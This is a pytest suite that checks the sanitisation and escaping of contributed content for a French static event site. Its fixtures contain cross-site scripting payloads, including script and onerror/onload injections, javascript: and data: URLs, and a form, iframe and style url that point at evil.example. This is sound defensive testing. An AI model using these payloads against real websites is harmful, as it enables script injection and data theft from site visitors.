"""Gate 5: content is untrusted — hostile text in every field is escaped or sanitised wherever it lands, and
HTML that the sanitiser would drop from a text (a script, a handler, a frame) fails the build, every text named."""

from __future__ import annotations

import gzip
import json

import pytest
from bs4 import BeautifulSoup

from builds import build

MARK = "PWNED"
HOSTILE = f'<script>alert("{MARK}")</script><img src=x onerror=alert("{MARK}")>"\'&'
QUOTED = json.dumps(HOSTILE, ensure_ascii=False)  # a valid YAML double-quoted string

EDITION = f"""\
year: 2017
theme: {QUOTED}
start: 2017-11-20
end: 2017-11-24
summary: |
  Texte `<script>alert("{MARK}")</script>` &lt;script&gt;alert("{MARK}")&lt;/script&gt;
  <abbr title='"><script>alert("{MARK}")</script>'>SSP</abbr> <a href="https://example.org/ok">site</a>
resources:
  - title: {QUOTED}
    url: "https://example.org/?q=<{MARK}>&x=\\"y"
    publisher: {QUOTED}
"""

EVENT = f"""\
---
title: {QUOTED}
type: atelier
start: 2017-11-21T10:00
organizer: {QUOTED}
venue:
  name: {QUOTED}
  address: {QUOTED}
  city: {QUOTED}
region: Occitanie
time_note: {QUOTED}
registration: {QUOTED}
---
`<script>alert("{MARK}")</script>` &lt;img src=x onerror=alert("{MARK}")&gt;
<span title="&quot;><svg onload=alert('{MARK}')>">c</span> <b>{HOSTILE.replace("<", "&lt;")}</b>
[lien](https://example.org/page)
"""

# What the sanitiser would drop, written in the texts of contributed files: each refused, with its line
REFUSED = {
    "campaigns/2017/events/script.md:8": f'<script>alert("{MARK}")</script>',
    "campaigns/2017/events/handler.md:8": f'<div onmouseover="{MARK}">c</div>',
    "campaigns/2017/events/frame.md:8": f'<svg onload="alert(\'{MARK}\')"></svg>',
    "campaigns/2017/events/form.md:8": f'<form action="https://evil.example/{MARK}"><input name="q"></form>',
    "campaigns/2017/events/scheme.md:8": f"<a href=\"javascript:alert('{MARK}')\">a</a>",
    "campaigns/2017/events/data.md:8": f"[b](data:text/html,{MARK})",
    "campaigns/2017/events/style.md:8": f'<span style="background:url(https://evil.example/{MARK})">x</span>',
    "campaigns/2017/events/tracker.md:8": f'<img src="https://tracker.example/{MARK}.gif">',
    "campaigns/2017/edition.yml:5": f'<iframe src="https://evil.example/{MARK}"></iframe>',
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from builds import site_project

    project = site_project(tmp_path_factory.mktemp("hostile"), campaigns=None)
    project.write("campaigns/2017/edition.yml", EDITION)
    project.write("campaigns/2017/events/hostile.md", EVENT)
    built = build(project.root)
    assert built.result.returncode == 0, built.result.stderr
    return built


def test_html_a_text_would_lose_fails_the_build_with_each_text_named(tmp_path):
    from builds import site_project

    project = site_project(tmp_path, campaigns=None)
    edition = EDITION.split("summary:")[0] + f"summary: |\n  {REFUSED['campaigns/2017/edition.yml:5']}\n"
    project.write("campaigns/2017/edition.yml", edition)
    for where, text in REFUSED.items():
        if "/events/" in where:
            project.write(where.split(":")[0], "---\ntitle: Atelier\ntype: atelier\nstart: 2017-11-21T10:00\norganizer: CH\n"
                                               f"online_url: https://example.org/direct\n---\n{text}\n")  # a header the site takes
    built = build(project.root)
    output = built.result.stderr + built.result.stdout
    assert built.result.returncode != 0 and not built.site.exists()
    assert f"{len(REFUSED) + 1} erreurs dans le contenu ; rien n'a été publié." in output  # the form, and its field
    for where in REFUSED:
        assert f"  {where}: " in output, where
    assert "  campaigns/2017/events/form.md:8: balise <input> refusée" in output
    assert "Traceback" not in output


def pages(built):
    for path in sorted(built.site.rglob("*.html")):
        yield path.relative_to(built.site).as_posix(), BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


def test_no_script_handler_or_dangerous_url_carries_the_payload(hostile_site):
    for rel, soup in pages(hostile_site):
        for script in soup.find_all("script"):
            if script.get("type") == "application/ld+json":  # data, checked below
                continue
            assert MARK not in script.get_text(), rel
        for tag in soup.find_all(True):
            assert tag.name not in ("iframe", "form", "svg", "img") or MARK not in str(tag), (rel, str(tag))
            for name, value in tag.attrs.items():
                value = " ".join(value) if isinstance(value, list) else value
                assert not (name.startswith("on") and MARK in value), (rel, name, value)
                assert not (name == "style" and MARK in value), (rel, name, value)
                if name in ("href", "src", "action", "formaction"):
                    assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (rel, value)


def test_text_is_shown_as_text_everywhere(hostile_site):
    event = hostile_site.html("2017/evenements/hostile/index.html")
    assert event.h1.get_text(strip=True).startswith(HOSTILE)
    details = event.select_one(".ssp-details").get_text()
    assert details.count(HOSTILE) >= 5  # organizer, venue name, address, city, time note, registration
    assert event.find("meta", attrs={"name": "description"})["content"].startswith(HOSTILE)
    assert event.title.get_text().startswith(HOSTILE)
    description = event.select_one(".ssp-description")
    assert description.code.get_text() == f'<script>alert("{MARK}")</script>' and description.b.get_text() == HOSTILE
    assert description.span["title"] == f"\"><svg onload=alert('{MARK}')>"  # an attribute the site keeps, as text
    edition = hostile_site.html("2017/index.html")
    assert f"«\u00a0{HOSTILE}\u00a0»" in edition.select_one(".ssp-edition__theme").get_text()
    resource = edition.select_one(".ssp-resources a")
    assert resource.get_text() == HOSTILE and resource["href"] == 'https://example.org/?q=<PWNED>&x="y'


def test_external_links_get_noopener_noreferrer(hostile_site):
    description = hostile_site.html("2017/evenements/hostile/index.html").select_one(".ssp-description")
    assert description.select_one("a[href='https://example.org/page']")["rel"] == ["noopener", "noreferrer"]
    summary = hostile_site.html("2017/index.html").select_one(".ssp-summary")
    assert summary.select_one("a[href='https://example.org/ok']")["rel"] == ["noopener", "noreferrer"]


def test_data_files_keep_the_exact_text(hostile_site):
    record = json.loads(hostile_site.text("2017/evenements.json"))["events"][0]
    assert record["title"] == record["organizer"] == record["time_note"] == HOSTILE
    assert record["venue"] == {"name": HOSTILE, "address": HOSTILE, "postal_code": None, "city": HOSTILE}
    pages = [json.loads(gzip.decompress(path.read_bytes()).removeprefix(b"pagefind_dcd"))  # Pagefind's signature, then JSON
             for path in (hostile_site.site / "pagefind/fragment").glob("*")]
    event = next(page for page in pages if page["meta"]["url"] == "2017/evenements/hostile/")
    assert HOSTILE in event["content"]  # the page's text, as data: the search page shows it as text (below)


def test_search_results_show_hostile_text_as_text(hostile_site, page):
    from checks import SiteServer, wait_until

    server = SiteServer(hostile_site.site)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(server.base + f"recherche/?q={MARK}")
        wait_until(page, "document.querySelectorAll('[data-ssp-search-results] li').length > 0", timeout=20)
        results = page.locator("[data-ssp-search-results]")
        assert results.locator("script, img, [onerror]").count() == 0 and dialogs == []
        assert MARK in results.inner_text()
    finally:
        server.close()


def test_structured_data_cannot_close_its_script(hostile_site):
    raw = hostile_site.text("2017/evenements/hostile/index.html")
    start = raw.index('<script type="application/ld+json">') + len('<script type="application/ld+json">')
    body = raw[start:raw.index("</script>", start)]
    assert "<" not in body and ">" not in body
    data = json.loads(body)
    assert data["name"] == data["organizer"]["name"] == HOSTILE
    assert data["location"]["address"]["streetAddress"] == HOSTILE
